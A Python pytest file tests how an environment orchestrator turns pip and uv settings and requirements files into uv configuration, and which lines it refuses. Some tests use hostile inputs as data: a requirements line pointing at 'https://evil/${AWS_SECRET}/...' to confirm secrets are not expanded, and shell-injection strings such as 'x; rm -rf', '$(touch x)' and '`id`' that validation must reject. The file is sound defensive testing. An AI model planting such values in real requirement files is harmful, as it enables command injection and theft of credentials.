"""The user's pip and uv settings, and requirement files: what reaches uv, and what is refused."""

from __future__ import annotations

import functools
import http.server
import os
import sys
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

import pytest
from wheels import make_index, make_wheel

from orchestrator.environments import EnvironmentRequest, Environments, check_request, check_requirement
from orchestrator.environments.request import read
from orchestrator.environments.settings import UvSettings, uv_settings
from orchestrator.environments.uv import IndexAway, explain, failure
from orchestrator.errors import BuildFailed, DiskFull, InvalidConfig
from orchestrator.home import Home
from orchestrator.spec.run import RequirementFile

SECRET = "s3cr3t"


def never() -> bool:
    return False


@pytest.fixture
def variables(tmp_path: Path) -> dict[str, str]:
    """Variables of a user who has told pip and uv nothing yet."""
    (tmp_path / "person").mkdir()
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("PIP_", "UV_"))}
    for name in ("XDG_CONFIG_HOME", "SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE", "HTTP_PROXY", "HTTPS_PROXY"):
        kept.pop(name, None)
    return kept | {
        "HOME": str(tmp_path / "person"),
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
        "XDG_CONFIG_DIRS": str(tmp_path / "nothing"),
        "VIRTUAL_ENV": str(tmp_path / "nothing"),
    }


@pytest.fixture
def home(tmp_path: Path) -> Home:
    home = Home(tmp_path / "home")
    home.create()
    return home


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return tmp_path / "build.log"


def conf(path: Path, text: str) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return str(path)


def settings(variables: Mapping[str, str], folder: Path, **pip: str) -> UvSettings:
    return uv_settings({**variables, "PIP_CONFIG_FILE": os.devnull, **pip}, folder, {})


def request(*lines: str, **files: str) -> EnvironmentRequest:
    sent = tuple(RequirementFile(f"{name}.txt", text) for name, text in files.items())
    return EnvironmentRequest("", lines, sent)


def packages(home: Home, variables: Mapping[str, str], log: Path, asked: EnvironmentRequest) -> tuple[str, ...]:
    return Environments(home, variables).ensure(asked, log, never).packages


def test_pip_conf_names_a_folder_and_an_index(home: Home, variables: dict[str, str], tmp_path: Path, log: Path) -> None:
    """As pip, places that are not there are only mentioned, and the best version of all indexes is taken."""
    make_wheel(tmp_path / "links", "tiny", "1.0")
    old = make_index(tmp_path / "old", make_wheel(tmp_path, "small", "1.0"))
    new = make_index(tmp_path / "new", make_wheel(tmp_path, "small", "2.0"))
    text = f"[global]\nfind-links = links\nindex-url = {old.as_uri()}\n"
    text += f"[install]\nextra-index-url =\n    file://{tmp_path}/nowhere/simple\n    {new.as_uri()}\n"
    named = conf(tmp_path / "pip.conf", text)
    cwd = Path.cwd()
    os.chdir(tmp_path)
    try:
        environments = Environments(home, variables | {"PIP_CONFIG_FILE": named})
    finally:
        os.chdir(cwd)
    assert environments.ensure(request("tiny", "small"), log, never).packages == ("small==2.0", "tiny==1.0")
    assert "nowhere/simple is ignored" in log.read_text()


def test_a_requirements_file_learns_no_variable_but_those_it_is_given(
    variables: dict[str, str], tmp_path: Path
) -> None:
    text = (
        "--extra-index-url https://evil/${AWS_SECRET}/${TOKEN}/simple\nsmall @ https://evil/${AWS_SECRET}/${FOLDER}\n"
    )
    file = RequirementFile("requirements.txt", text)
    asked = read(EnvironmentRequest("", (), (file,), variables={"TOKEN": "mine", "FOLDER": str(tmp_path)}))
    server = variables | {"AWS_SECRET": "hidden", "TOKEN": "other", "FOLDER": "/else"}
    found = uv_settings(server, tmp_path, asked.options, asked.variables, asked.named_variables)
    assert found.env["UV_INDEX"].split()[0] == "https://evil/${AWS_SECRET}/mine/simple"
    assert asked.options["extra-index-url"] == ("https://evil/${AWS_SECRET}/${TOKEN}/simple",), "as it is written"
    assert (found.named, "FOLDER" in found.env) == ({"FOLDER": str(tmp_path)}, False), "uv puts them into lines"
    assert "hidden" not in found.env.values()
    assert any(note.startswith("${AWS_SECRET} in a requirements file was not replaced: ") for note in found.notes)
    assert "mine" not in repr(EnvironmentRequest(variables={"TOKEN": "mine"}))


def test_pip_order(variables: dict[str, str], tmp_path: Path) -> None:
    """Variables over `PIP_CONFIG_FILE` over the user's files; `[install]` over `[global]`; empty says nothing."""
    person = Path(variables["HOME"])
    conf(person / ".pip" / "pip.conf", "[global]\nindex-url = https://legacy/\ntimeout = 7\n")
    conf(person / ".config" / "pip" / "pip.conf", "[install]\nindex_url = https://user/\n")
    found = uv_settings(variables | {"PIP_EXTRA_INDEX_URL": ""}, tmp_path, {})
    assert (found.env["UV_DEFAULT_INDEX"], found.env["UV_HTTP_TIMEOUT"]) == ("https://user/", "7")
    named = {"PIP_CONFIG_FILE": conf(tmp_path / "named.conf", "[global]\nindex-url = https://named/\n")}
    assert uv_settings(variables | named, tmp_path, {}).env["UV_DEFAULT_INDEX"] == "https://named/"
    named["PIP_INDEX_URL"] = "https://variable/"
    assert uv_settings(variables | named, tmp_path, {}).env["UV_DEFAULT_INDEX"] == "https://variable/"
    broken = {"PIP_CONFIG_FILE": conf(tmp_path / "broken.conf", "no section\n")}
    assert "broken.conf" in uv_settings(variables | broken, tmp_path, {}).notes[0]


def test_certificates_proxies_and_the_rest(variables: dict[str, str], tmp_path: Path) -> None:
    given = {"PIP_CERT": "ca.pem", "PIP_PROXY": "proxy:3128", "PIP_TRUSTED_HOST": "one two", "PIP_PRE": "yes"}
    given |= {"PIP_NO_BINARY": "a,b", "PIP_NO_INDEX": "true", "PIP_CLIENT_CERT": "~/me.pem"}
    found = settings(variables, tmp_path, **given)
    assert found.env["SSL_CERT_FILE"] == str(tmp_path / "ca.pem")
    assert found.env["HTTPS_PROXY"] == found.env["HTTP_PROXY"] == "http://proxy:3128"
    assert (found.env["UV_INSECURE_HOST"], found.env["UV_PRERELEASE"]) == ("one two", "allow")
    assert found.args == ("--no-index", "--no-binary", "a", "--no-binary", "b")
    assert "VIRTUAL_ENV" not in found.env


def test_uv_wins(variables: dict[str, str], tmp_path: Path) -> None:
    pip = {"PIP_INDEX_URL": "https://pip/", "PIP_EXTRA_INDEX_URL": "https://extra/", "PIP_PRE": "1"}
    found = settings(variables, tmp_path, **pip)
    assert (found.env["UV_DEFAULT_INDEX"], found.env["UV_INDEX"]) == ("https://pip/", "https://extra/")
    assert found.env["UV_INDEX_STRATEGY"] == "unsafe-best-match"
    found = settings(variables, tmp_path, UV_INDEX_URL="https://uv/", UV_INDEX="https://uv2/", **pip)
    assert "UV_DEFAULT_INDEX" not in found.env
    assert found.env["UV_INDEX"] == "https://uv2/"
    assert "UV_INDEX_STRATEGY" not in found.env
    conf(Path(variables["HOME"], ".config", "uv", "uv.toml"), '[pip]\nprerelease = "disallow"\n')
    assert "UV_PRERELEASE" not in settings(variables, tmp_path, **pip).env


def test_uv_toml_is_honoured_and_projects_are_not(
    home: Home, variables: dict[str, str], tmp_path: Path, log: Path
) -> None:
    """The user's uv.toml counts; a project around the home, or a broken one where the server runs, does not."""
    make_wheel(tmp_path / "links", "tiny")
    conf(home.root / "pyproject.toml", '[project]\nname = "p"\nversion = "1"\n[tool.uv]\nno-index = true\n')
    conf(home.root.parent / "uv.toml", "wrong = [")
    before = Environments(home, variables).key(request("tiny"))
    conf(
        Path(variables["HOME"], ".config", "uv", "uv.toml"),
        f'[pip]\nfind-links = ["{tmp_path}/links"]\nno-index = true\n',
    )
    assert Environments(home, variables).key(request("tiny")) != before
    assert packages(home, variables, log, request("tiny")) == ("tiny==1.0",)
    with pytest.raises(BuildFailed, match="six"):
        packages(home, variables, log, request("six"))


def test_settings_are_part_of_the_key(home: Home, variables: dict[str, str], tmp_path: Path) -> None:
    limits = conf(tmp_path / "limits.txt", "six<1.17\n")
    links = tmp_path / "links"
    make_wheel(links, "tiny")

    def key(asked: EnvironmentRequest, **given: str) -> str:
        return Environments(home, variables | given).key(asked)

    given = {"PIP_CONSTRAINT": limits, "PIP_FIND_LINKS": str(links), "PIP_INDEX_URL": "https://index/simple"}
    keys = {key(request("six"), **given), key(request("six"))}
    keys |= {key(request("six"), **{name: value}) for name, value in given.items()}
    Path(limits).write_text("six<1.16\n")
    keys.add(key(request("six"), **given))
    make_wheel(links, "small")
    keys.add(key(request("six"), **given))
    assert len(keys) == 7
    assert key(request(), **given) == key(request())
    with_password = key(request("six"), PIP_INDEX_URL=f"https://me:{SECRET}@index/simple")
    assert with_password == key(request("six"), PIP_INDEX_URL="https://me:other@index/simple")


def test_constraints_are_obeyed(home: Home, variables: dict[str, str], tmp_path: Path, log: Path) -> None:
    links = tmp_path / "links"
    for version in ("1.0", "2.0"):
        make_wheel(links, "tiny", version)
    given = {"PIP_FIND_LINKS": str(links), "PIP_NO_INDEX": "1"}
    assert packages(home, variables | given, log, request("tiny")) == ("tiny==2.0",)
    given["PIP_CONSTRAINT"] = conf(tmp_path / "limits.txt", "tiny<2\n")
    assert packages(home, variables | given, log, request("tiny")) == ("tiny==1.0",)


def test_passwords_stay_out_of_files(home: Home, variables: dict[str, str], tmp_path: Path, log: Path) -> None:
    wheel = make_wheel(tmp_path, "tiny")
    dead = f"https://me:{SECRET}@127.0.0.1:9/simple"
    given = {"PIP_INDEX_URL": dead, "UV_HTTP_RETRIES": "0"}
    environment = Environments(home, variables | given).ensure(request(str(wheel)), log, never)
    with pytest.raises(BuildFailed) as caught:
        packages(home, variables | given, log, request(f"x @ {dead}/x-1-py3-none-any.whl", "y"))
    texts = [log.read_text(), (environment.path / "spell-environment.json").read_text(), str(caught.value)]
    assert not any(SECRET in text for text in texts)


def test_requirement_files(home: Home, variables: dict[str, str], tmp_path: Path, log: Path) -> None:
    """Files that name each other, options in them, and constraints that are nothing else."""
    links = tmp_path / "links"
    for name, version in (("tiny", "1.0"), ("tiny", "2.0"), ("small", "1.0"), ("other", "1.0")):
        make_wheel(links, name, version)
    asked = request(
        requirements=f"--no-index\n-f {links}\n-r sub/base.txt\n-c ./limits.txt\nsmall \\\n  ==1.0 # one\n",
        limits="tiny<2\nother==1.0\n",
        **{"sub/base": "tiny\n"},
    )
    assert packages(home, variables, log, asked) == ("small==1.0", "tiny==1.0")
    twice = EnvironmentRequest(
        "",
        ("tiny",),
        (
            RequirementFile("a/requirements.txt", f"--no-index\n--find-links={links}\nsmall\n"),
            RequirementFile("b/requirements.txt", "other"),
        ),
    )
    assert packages(home, variables, log, twice) == ("other==1.0", "small==1.0", "tiny==2.0")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("-r other.txt", "'other.txt', which was not sent"),
        ("--requirement=other.txt", "which was not sent"),
        ("-cother.txt", "which was not sent"),
        ("-e .", "line 1: .*is a relative path, which the server cannot resolve"),
        ("./x.whl", "is a relative path, which the server cannot resolve"),
        ("-f wheels", "is a relative path, which the server cannot resolve"),
    ],
)
def test_files_that_were_not_sent(text: str, words: str) -> None:
    with pytest.raises(InvalidConfig, match=words):
        check_request(request(requirements=text))
    with pytest.raises(InvalidConfig, match="which was not sent"):
        check_request(request(requirements="-c missing/limits.txt", **{"b/limits": "six\n", "limits": ""}))
    with pytest.raises(InvalidConfig, match="not a requirements file"):
        check_request(EnvironmentRequest("", (), (RequirementFile("pyproject.toml", ""),)))


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("six\nx; rm -rf", 2, "not a pip requirement"),
        ("# conda\nnumpy=1.26.4=py311_0", 2, "numpy==1.26.4"),
        ("Package Version\nsix 1.17.0", 1, "not a pip requirement"),
        ("six 1.17.0", 1, "six==1.17.0"),
        ("six \\\n ==1\n--no-deps", 3, "Remove the line"),
        ("x @ file:///croot/x", 1, "pip list --format=freeze"),
        ("--require-hashes\nsix==1.17.0 --hash=sha256:00\n-c limits.txt", 0, "limits.txt allows only six<1"),
    ],
)
def test_a_wrong_line_is_refused_before_the_build(text: str, line: int, words: str) -> None:
    with pytest.raises(InvalidConfig) as caught:
        check_request(request(requirements=text, limits="six<1\nnumpy<2"))
    assert words in caught.value.whole
    assert not line or f"requirements.txt, line {line}: " in caught.value.message


@pytest.mark.parametrize(
    "line", ["six>=1.0.*,", "--prefer-binary", "--use-feature=fast-deps", "-e git+file:///r#egg=x"]
)
def test_a_line_that_pip_takes(line: str) -> None:
    check_request(request(requirements=line))


@pytest.mark.parametrize(
    "line",
    [
        "six",
        "six[x]>=1,<2 ; python_version > '3'",
        "git+https://github.com/a/b@main#egg=b",
        "b @ git+ssh://git@host/b",
        "https://h/x-1-py3-none-any.whl",
        "x @ file:///x-1-py3-none-any.whl",
        "./x-1-py3-none-any.whl[extra]",
        "/a/folder",
        "six  # why",
    ],
)
def test_good_requirements(line: str) -> None:
    check_requirement(line)


def test_a_path_that_is_not_there(home: Home, variables: dict[str, str]) -> None:
    with pytest.raises(InvalidConfig, match="does not exist on the server's machine"):
        Environments(home, variables).key(request("/no/such/x-1-py3-none-any.whl"))


def test_key_is_content(home: Home, variables: dict[str, str], tmp_path: Path) -> None:
    key = Environments(home, variables).key
    version = f"{sys.version_info[0]}.{sys.version_info[1]}"
    plain = key(request("six", "tqdm"))
    assert key(request(" tqdm", "six  # for old code")) == plain
    assert key(EnvironmentRequest(version, ("six", "tqdm"), ())) == plain
    file = RequirementFile("requirements.txt", "six >= 1.0\n")
    same = RequirementFile("other.txt", "# comment\r\n\r\nsix>=1.0  # why\r\n")
    assert key(EnvironmentRequest("", (), (file,))) == key(EnvironmentRequest("", (), (same,)))
    one, two = make_wheel(tmp_path / "a", "tiny"), make_wheel(tmp_path / "b", "tiny")
    os.utime(two, (1, 1))
    assert key(request(str(one))) == key(request(two.as_uri()))
    different = [
        request(),
        request("six"),
        request("six==1.16"),
        EnvironmentRequest("3.12", ("six",), ()),
        request(str(one)),
        request("git+https://h/six"),
    ]
    assert len({key(asked) for asked in different}) == len(different)


@pytest.mark.parametrize(
    "line", ["x; rm -rf", "$(touch x)", "`id`", "six && id", "six\n-r x", "-r x", "--index-url=x", "", "a b"]
)
def test_bad_requirement(home: Home, variables: dict[str, str], log: Path, line: str) -> None:
    with pytest.raises(InvalidConfig, match="is not a pip requirement"):
        Environments(home, variables).ensure(request(line), log, never)
    assert not log.exists()


@contextmanager
def serving(folder: Path) -> Iterator[str]:
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/simple"
        finally:
            server.shutdown()
            thread.join()


def test_f36_index_away(home: Home, variables: dict[str, str], tmp_path: Path, log: Path) -> None:
    wheels = [make_wheel(tmp_path, name) for name in ("tiny", "small")]
    make_index(tmp_path / "index", *wheels)
    with serving(tmp_path / "index") as url:
        environments = Environments(home, variables | {"PIP_INDEX_URL": url, "UV_HTTP_RETRIES": "0"})
        built = environments.ensure(request("tiny"), log, never)
        environments.ensure(request("small"), log, never)
    before = log.read_bytes()
    assert environments.ensure(request("tiny"), log, never) == built
    assert log.read_bytes() == before
    both = environments.ensure(request("tiny", "small"), log, never)
    assert both.packages == ("small==1.0", "tiny==1.0")
    with pytest.raises(BuildFailed, match="index could not be reached"):
        environments.ensure(request("absent"), log, never)


OLD_UV = """  × No solution found when resolving dependencies:
  ╰─▶ Because there is no version of six==99 and you require six==99, we can
      conclude that your requirements are unsatisfiable."""
BACKEND = """error: Build backend failed to determine requirements with `build_wheel()` (exit status: 1)

[stderr]
Traceback
my compiler is missing"""


def test_explain() -> None:
    """What older versions of uv say."""
    assert explain(OLD_UV.splitlines()).startswith("Because there is no version of six==99 and you require six==99, we")
    assert explain(OLD_UV.splitlines()).endswith("conclude that your requirements are unsatisfiable.")
    assert explain(BACKEND.splitlines()).endswith("(exit status: 1): my compiler is missing.")
    assert not isinstance(failure([*BACKEND.splitlines(), "connection timed out"], 1), IndexAway)
    assert isinstance(failure(["error: failed", "cause: No space left on device (os error 28)"], 2), DiskFull)
